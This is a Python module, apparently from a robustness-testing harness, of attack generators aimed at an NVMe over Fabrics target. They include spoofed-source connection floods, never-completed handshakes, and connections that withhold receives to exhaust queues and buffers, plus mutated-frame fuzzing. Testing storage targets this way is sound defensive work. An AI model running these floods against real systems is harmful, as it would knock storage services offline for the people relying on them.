"""What a stranger does to a target of NVMe over Fabrics. An attack is a generator: each step sends some of it, and it goes on for ever
unless it says otherwise."""

import itertools
import time

import nvme
import wire
from attacker import MAC, Gone
from mutation import Mutations
from network import ADDRESSES
from victims import NVME_PORT, exported_disk


def absent_addresses(count):
    """Addresses on the link that no host has."""
    return [f"192.0.{100 + i // 250}.{1 + i % 250}" for i in range(count)]


def requests_taken_back(attacker):
    """REQs, and REJs while the target accepts: what its threads do about them meets in every order."""
    for number in itertools.count():
        # One, or so many that the last are rejected before they are looked at.
        taken_back = [attacker.request(NVME_PORT, private=nvme.private_data()) for _ in range((1, 4, 16, 32)[number % 4])]
        due = time.monotonic() + 60e-6 * (number // 4 % 40)
        while time.monotonic() < due:
            pass
        for own in taken_back:
            attacker.say(wire.REJ, wire.reject(own, 0, 0, 28))
        attacker.pump(0.002)
        yield


def requests_from_absent_hosts(attacker):
    """REQs from addresses that no host has: each answer needs a neighbour that does not answer. 100 at once, then ten a second."""
    sources = itertools.cycle(absent_addresses(500))
    for _ in range(100):
        attacker.request(NVME_PORT, source=next(sources), private=nvme.private_data())
    while True:
        attacker.request(NVME_PORT, source=next(sources), private=nvme.private_data())
        yield from wait(attacker, 0.1)


def unfinished_handshakes(attacker):
    """As many REQs as the target has queues, and more, by one address: none is ever followed by an RTU. 1,300 at once, then
    200 a second."""
    for _ in range(1300):
        attacker.request(NVME_PORT, private=nvme.private_data())
        attacker.pump(0.001)
    while True:
        attacker.request(NVME_PORT, private=nvme.private_data())
        yield from wait(attacker, 0.005)


def requests_from_everywhere(attacker):
    """6,000 REQs a second for a service that no program has, from addresses that no host has: each sets off the question for one."""
    sources = absent_addresses(6_000)
    began = time.monotonic()
    sent = 0
    while True:
        # Not what it could not send in time.
        sent = max(sent, int((time.monotonic() - began) * 6_000) - 600)
        while sent < (time.monotonic() - began) * 6_000:
            attacker.request(9, source=sources[sent % len(sources)])
            sent += 1
        yield


def connect(attacker, count, **fields):
    """As many connections as the target lets it have."""
    made = []
    for _ in range(count):
        try:
            made.append(attacker.connect(NVME_PORT, nvme.private_data(depth=128), **fields))
        except Gone:
            break
    return made


def capsules_without_receives(attacker):
    """34 connections without a Fabrics Connect, 286 commands on each, and no receive for any answer. The ACK timeout and retries
    are the longest that a peer may ask for. Then it is "not ready" for ever."""
    connections = connect(attacker, 34, policy="not_ready", ack_timeout=31, rnr_retry=7)
    for number in range(286):
        for connection in connections:
            connection.send(wire.SEND_ONLY, payload=nvme.keep_alive(number))
        attacker.pump()
        if number % 16 == 15:
            attacker.settle(connections, 0.2)
    attacker.settle(connections)
    while True:
        yield from wait(attacker, 0.01)


def log_pages_without_receives(attacker):
    """Large answers of a discovery controller, for whose completions there is no receive: the buffers that they are in are others',
    too."""
    connections = connect(attacker, 4, policy="acknowledge", ack_timeout=31, rnr_retry=7)
    for connection in connections:
        connection.send(wire.SEND_ONLY, payload=nvme.connect(0, nvme.DISCOVERY, exported_disk.STRANGER, depth=128))
        attacker.pump_until(lambda c=connection: c.sends == 1 or c.disconnected)
        connection.send(wire.SEND_ONLY, payload=nvme.enable(1))
        attacker.pump_until(lambda c=connection: c.sends == 2 or c.disconnected)
        connection.policy = "not_ready"
        for number in range(128):
            connection.send(wire.SEND_ONLY, payload=nvme.discovery_log(number, 128 << 10, 0x10000, 0x1234))
    attacker.settle(connections)
    while True:
        yield from wait(attacker, 0.01)


# Of this many mutated frames the connections that they are addressed to are looked after once.
FRAMES_OF_A_ROUND = 50


def mutated_frames(attacker, random):
    """Frames that are nearly right, most of them to connections of its own. A step sends FRAMES_OF_A_ROUND."""
    ends = ((MAC, ADDRESSES["attacker"], "2001:db8::66"), (attacker.victim[0], ADDRESSES["victim"], "2001:db8::1"))
    mutations = Mutations(random, ends, [])
    connections = []
    while True:
        connections = [c for c in connections if not c.disconnected and not c.refused][-4:]
        if len(connections) < 4:
            # Frames may break them; they are queues of discovery controllers.
            for made in connect(attacker, 1):
                made.send(wire.SEND_ONLY, payload=nvme.connect(0, nvme.DISCOVERY, exported_disk.STRANGER))
                connections.append(made)
        mutations.queue_pairs = [(c.peer.qp, c.psn) for c in connections]
        for _ in range(FRAMES_OF_A_ROUND):
            attacker.send(mutations.next())
        attacker.pump(0.005)
        for connection in connections:
            connection.unanswered.clear()
            # Where the victim is by now.
            if connection.acknowledged is not None:
                connection.psn = connection.acknowledged + 1 & wire.PSN_MASK
        yield


def wait(attacker, seconds):
    """In steps."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        attacker.pump(0.001)
        yield
